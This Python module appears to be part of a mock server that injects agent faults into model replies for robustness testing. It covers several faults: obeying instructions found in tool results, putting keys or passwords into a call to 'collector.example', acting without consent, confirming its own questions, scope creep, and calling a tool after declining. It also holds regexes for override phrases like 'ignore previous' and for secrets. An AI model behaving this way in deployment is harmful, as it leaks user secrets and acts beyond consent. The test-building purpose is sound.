"""Faults over several turns: actions without the user's consent, or on the instruction of a tool result."""

import re
from collections.abc import Sequence
from dataclasses import replace

from mockserver.chat import Reply, Tool, ToolCall
from mockserver.faults import advice
from mockserver.faults.args_semantic_mistaken import near_miss_value
from mockserver.faults.argument_values import Arguments, invented_call, judge_of, values_fit, values_of, written
from mockserver.faults.call_history import calls_again, in_words, leaves, only_calls, says
from mockserver.faults.call_set import acts, another_call, functions
from mockserver.faults.fault import Context, DoesNotApply, NotHere
from mockserver.faults.locations import put_at
from mockserver.faults.register import Register

_YES = re.compile(
    r"\b(yes|yep|yeah|sure|ok|okay|go ahead|do it|please do|confirmed?|correct|ja|oui|sí)\b", re.IGNORECASE
)
_INSTRUCTION = re.compile(
    r"ignore (all |the )?(previous|above|prior)|you must|please (call|send|run|execute|delete|transfer)|"
    r"\b(call|run|execute|invoke|use) the? ?\w+|important:|instruction|system:|send (it|this|an? \w+|all)",
    re.IGNORECASE,
)
_SECRET = re.compile(
    r"\b(?:sk|pk|ghp|xox[bp]|AKIA|eyJ)[-_\w.]{8,}|(?<=password)\W+\S+|(?<=api key)\W+\S+|\b[\w.+-]+@[\w-]+\.[\w.]+\b|"
    r"\b\d[\d -]{11,18}\d\b",
    re.IGNORECASE,
)
_ADDRESS = re.compile(r"https?://\S+|\b[\w.+-]+@[\w-]+\.[\w.]+\b")

entry = Register("dialogue", "dialogue", needs=("conversation",), robust=advice.CHECK_CLAIMS)


@entry(
    "injected_call",
    "The model follows an instruction that it found in a tool result.",
    source=(
        "AgentDojo, without a defence: gpt-4o-2024-05-13 47.7 %, claude-3-opus 11.3 %, claude-3.5-sonnet-1022 1.1 % "
        "(second-hand)"
    ),
    robust=advice.DATA,
)
def injected_call(reply: Reply, context: Context) -> Reply:
    """A call of the function that the result names, or of one that acts, with the address that stands there."""
    texts = [message.content or "" for message in context.request.results]
    for text in texts:
        named = [tool for tool in functions(context) if tool.name in text]
        if not named and not _INSTRUCTION.search(text):
            continue
        acting = [tool for tool in functions(context) if acts(tool)]
        tool = (named or acting or functions(context))[0]
        return calls_again(reply, _filled(invented_call(tool, context), tool, [*_ADDRESS.findall(text)]))
    raise NotHere("no tool result that has just been given holds an instruction")


@entry(
    "exfiltration_call",
    "Something confidential of the conversation is put into the arguments of a call.",
    source="the class of AgentDojo and InjecAgent",
    robust=f"{advice.DATA} Let nothing out to addresses that are not on a list.",
    needs=(),
)
def exfiltration_call(reply: Reply, context: Context) -> Reply:
    """A key, a password, an address; where there is none, what the user said."""
    texts = "\n".join(message.content or "" for message in context.request.messages)
    secrets = [found[0].strip(" :=\"'") for found in _SECRET.finditer(texts)] or [context.request.user_text[:200]]
    for tool in sorted(functions(context), key=lambda tool: not acts(tool)):
        call = invented_call(tool, context)
        carried = [f"https://collector.example/?d={secrets[0]}", secrets[0]]
        leaking = _filled(call, tool, carried)
        if leaking != call:
            return only_calls(reply, leaking)
    raise DoesNotApply("no offered function takes a free text")


@entry(
    "unauthorised_action",
    "Something is done in the world without the user's consent.",
    source=(
        "an agent of Replit deleted a production database in July 2025 (second-hand, many reports); SABER: each "
        "deviating step that changes something cuts the odds of success by up to 92 to 96 %"
    ),
    robust=advice.CONFIRM,
    needs=(),
)
def unauthorised_action(reply: Reply, context: Context) -> Reply:
    """A call of a function that acts, in place of the reply."""
    made = {call.name for call in reply.calls}
    acting = [tool for tool in functions(context) if acts(tool) and tool.name not in made]
    if not acting:
        raise DoesNotApply("no function is offered that changes the world and that the reply does not call")
    return only_calls(reply, invented_call(acting[0], context))


@entry(
    "confirmation_skipped",
    "The model asks for a yes and makes the call in the same reply.",
    source="known from experience",
    robust=advice.CONFIRM,
    needs=("call",),
)
def confirmation_skipped(reply: Reply, context: Context) -> Reply:
    """A question before the calls."""
    return says(reply, f"Shall I go ahead with {in_words(reply.calls[0].name)}?", reply.calls)


@entry(
    "self_confirmed",
    "The model answers its own question with yes, and makes the call.",
    source="known from experience",
    robust=advice.CONFIRM,
    needs=("call",),
)
def self_confirmed(reply: Reply, context: Context) -> Reply:
    """Both sides of the dialogue."""
    return says(reply, f"Shall I go ahead with {in_words(reply.calls[0].name)}?\n\nUser: Yes, please.", reply.calls)


@entry(
    "stale_confirmation",
    "The user said yes to one call, and another one is made.",
    source="known from experience",
    robust="Bind the yes to the exact name and arguments.",
    needs=("call", "conversation"),
)
def stale_confirmation(reply: Reply, context: Context) -> Reply:
    """The same function with nearly the same arguments."""
    if not _YES.search(context.request.user_text):
        raise NotHere("the user's last message does not say yes")
    for index, call in enumerate(reply.calls):
        tool, values = context.request.tool(call.name), values_of(call)
        if tool is None or values is None or judge_of(tool) is None:
            continue
        for other in near_miss_value(Arguments(values, tool, context)):
            if other != values and values_fit(tool, other):
                changed = replace(call, arguments=written(other, like=call.arguments))
                return replace(reply, calls=(*reply.calls[:index], changed, *reply.calls[index + 1 :]))
    raise DoesNotApply("no call of the reply has a value that could be changed")


@entry(
    "scope_creep",
    "What was asked for is done, and something more.",
    source="second-hand",
    robust=advice.ASK,
    needs=("call",),
)
def scope_creep(reply: Reply, context: Context) -> Reply:
    """One more call, of a function that acts if there is one."""
    made = {call.name for call in reply.calls}
    tools = sorted(functions(context), key=lambda tool: (tool.name in made, not acts(tool)))
    return replace(reply, calls=(*reply.calls, another_call(tools, reply.calls, context)))


@entry(
    "call_after_refusal",
    "The model declines in its text and makes the call all the same.",
    source="known from experience",
    robust="Show the text, run nothing.",
    needs=("call",),
)
def call_after_refusal(reply: Reply, context: Context) -> Reply:
    """Both at once."""
    return says(reply, "I'm sorry, but I can't do that.", reply.calls)


def _filled(call: ToolCall, tool: Tool, texts: Sequence[str]) -> ToolCall:
    """The call with one of these texts in one of its values, where one fits; unchanged otherwise."""
    values = values_of(call) or {}
    for text in texts:
        for path, value in leaves(values):
            changed = put_at(values, path, text)
            if isinstance(value, str) and values_fit(tool, changed):
                return replace(call, arguments=written(changed, like=call.arguments))
    return call
